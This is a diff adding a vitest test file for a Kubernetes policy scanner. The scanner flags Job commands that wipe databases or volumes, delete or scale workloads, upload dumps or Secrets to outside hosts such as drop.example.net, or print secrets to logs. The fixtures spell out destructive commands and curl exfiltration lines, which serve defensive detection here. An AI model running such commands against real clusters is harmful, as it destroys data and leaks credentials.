@@ -1,0 +1,102 @@
+/**
+ * command-effects.ts and shell-words.ts: what a container's commands do to
+ * the stores and to the secrets they can read, read once per render.
+ */
+import { describe, expect, it } from 'vitest';
+import type { Manifest } from '../../src/core/manifest.js';
+import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';
+import { pipelines } from '../../src/policy/shell-words.js';
+
+const SPEC = ['spec', 'template', 'spec'];
+
+function job(container: Record<string, unknown>, pod: Record<string, unknown> = {}): Manifest {
+  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'busybox', ...container }], ...pod } } } };
+}
+
+function effectsOf(...resources: Manifest[]): CommandEffect[] {
+  return collectCommandEffects(resources, new Map(resources.map((_, i) => [i, [SPEC]])), 'st2-prod');
+}
+
+const sh = (script: string): Record<string, unknown> => ({ command: ['sh', '-c', script] });
+const kinds = (effects: readonly CommandEffect[]): string[] => effects.map((e) => e.effect);
+
+describe('shell words', () => {
+  it('cuts pipelines and commands, keeps quoted words and substitutions whole, and sees where output goes', () => {
+    // GIVEN a script with quotes, a substitution, a pipe, redirections and a heredoc
+    const script = `echo "a b" > /tmp/x; cat /k 2>/dev/null | base64 && aws s3 cp - s3://b/$(date +%F).gz\nmongo <<EOF\ndb.x.drop()\nEOF`;
+    // WHEN it is cut
+    const p = pipelines(script);
+    // THEN each command has its words and its output's destination
+    expect(p.map((l) => l.map((c) => c.words.join(' ')))).toEqual([['echo a b'], ['cat /k', 'base64'], ['aws s3 cp - s3://b/$(date +%F).gz'], ['mongo'], ['db.x.drop()'], ['EOF']]);
+    expect(p[0]?.[0]?.stdoutToFile).toBe(true);
+    expect(p[1]?.[0]?.stdoutToFile).toBe(false);
+  });
+});
+
+describe('command effects', () => {
+  it('finds store wipes: dropDatabase, rabbitmqctl reset after options, etcdctl del --from-key, FLUSHALL', () => {
+    const found = effectsOf(
+      job({ command: ['mongosh', '--eval', 'db.getSiblingDB("st2").dropDatabase()'] }),
+      job(sh('rabbitmqctl -n rabbit@x stop_app; rabbitmqctl -n rabbit@x reset')),
+      job(sh('ETCDCTL_API=3 etcdctl del "" --from-key=true')),
+      job({ command: ['redis-cli', '-h', 'redis', 'FLUSHALL'] }),
+    );
+    expect(found.map((e) => (e.effect === 'store-wipe' ? `${e.program} ${e.what}` : e.effect))).toEqual(['mongosh drop', 'rabbitmqctl reset', 'etcdctl del --prefix', 'redis-cli flush']);
+  });
+
+  it('reads nothing destructive in reads, listings and printed hints', () => {
+    const found = effectsOf(
+      job({ command: ['mongo', '--eval', 'db.adminCommand({ping: 1})'] }),
+      job({ command: ['rabbitmqctl', 'list_queues'] }),
+      job(sh('etcdctl get --prefix /st2; echo "run db.dropDatabase() to reset"')),
+    );
+    expect(found).toEqual([]);
+  });
+
+  it('names the claim a recursive rm or a glob empties, not a single file', () => {
+    const pod = { volumes: [{ name: 'd', persistentVolumeClaim: { claimName: 'datadir-mongodb-0' } }] };
+    const mount = { volumeMounts: [{ name: 'd', mountPath: '/data/db' }] };
+    const wipe = effectsOf(job({ ...sh('rm -f /data/db/*'), ...mount }, pod), job({ ...sh('rm -rf /data'), ...mount }, pod));
+    expect(wipe.map((e) => (e.effect === 'volume-wipe' ? e.claim : e.effect))).toEqual(['datadir-mongodb-0', 'datadir-mongodb-0']);
+    expect(effectsOf(job({ ...sh('rm -f /data/db/mongod.lock'), ...mount }, pod))).toEqual([]);
+  });
+
+  it('reads kubectl delete and scale: names, selectors, --all, the namespace', () => {
+    const [a, b, c] = effectsOf(
+      job(sh('kubectl -n st2-prod delete pod -l app=mongodb,release=st2 --wait=false')),
+      job(sh('kubectl delete pod/etcd-0 pod/etcd-1')),
+      job(sh('kubectl scale sts rabbitmq --replicas=0 --namespace=other')),
+    );
+    expect(a).toMatchObject({ effect: 'kubectl', verb: 'delete', what: 'pods', selector: { app: 'mongodb', release: 'st2' }, namespace: 'st2-prod' });
+    expect(b).toMatchObject({ effect: 'kubectl', verb: 'delete', names: ['etcd-0', 'etcd-1'], namespace: 'st2-prod' });
+    expect(c).toMatchObject({ effect: 'kubectl', verb: 'scale', what: 'statefulsets', names: ['rabbitmq'], replicas: 0, namespace: 'other' });
+  });
+
+  it('sees a dump or a Secret sent somewhere, and where, without copying a value', () => {
+    const key = { volumes: [{ name: 'k', secret: { secretName: 'st2-datastore-crypto-key' } }] };
+    const found = effectsOf(
+      job(sh('mongodump --archive=/tmp/d.gz && curl --upload-file /tmp/d.gz https://drop.example.net/d')),
+      job({ ...sh('curl -d @/keys/k.json https://hooks.example.net/x'), volumeMounts: [{ name: 'k', mountPath: '/keys' }] }, key),
+      job(sh('mongodump --archive | aws s3 cp - s3://backups/st2.gz')),
+      job({ ...sh('curl -d "p=$PASS" http://minio.backup.svc:9000/x'), env: [{ name: 'PASS', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] }),
+    );
+    expect(found.map((e) => (e.effect === 'upload' ? [e.payload, e.secret, e.destination, e.bucket, e.internal] : e.effect))).toEqual([
+      ['store-dump', '', 'drop.example.net', '', false],
+      ['secret', 'st2-datastore-crypto-key', 'hooks.example.net', '', false],
+      ['store-dump', '', 'backups', 'backups', false],
+      ['secret', 'mongodb-admin', 'minio.backup.svc', '', true],
+    ]);
+  });
+
+  it('sees a Secret printed to the log, not one written to a file, hashed or piped into a program', () => {
+    const conf = { volumes: [{ name: 's', secret: { secretName: 'st2-config-secrets' } }] };
+    const mount = { volumeMounts: [{ name: 's', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf' }] };
+    const env = { env: [{ name: 'PASS', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] };
+    expect(kinds(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf'), ...mount }, conf)))).toEqual(['print-secret']);
+    expect(kinds(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf | base64'), ...mount }, conf)))).toEqual(['print-secret']);
+    expect(kinds(effectsOf(job({ command: ['env'], ...env })))).toEqual(['print-secret']);
+    expect(kinds(effectsOf(job({ ...sh('echo "pw $PASS"'), ...env })))).toEqual(['print-secret']);
+    expect(effectsOf(job({ ...sh('cat /etc/st2/st2.secrets.conf > /tmp/c; sha256sum /etc/st2/st2.secrets.conf'), ...mount }, conf))).toEqual([]);
+    expect(effectsOf(job({ ...sh('echo "$PASS" | mongo -p --quiet'), ...env }))).toEqual([]);
+  });
+});
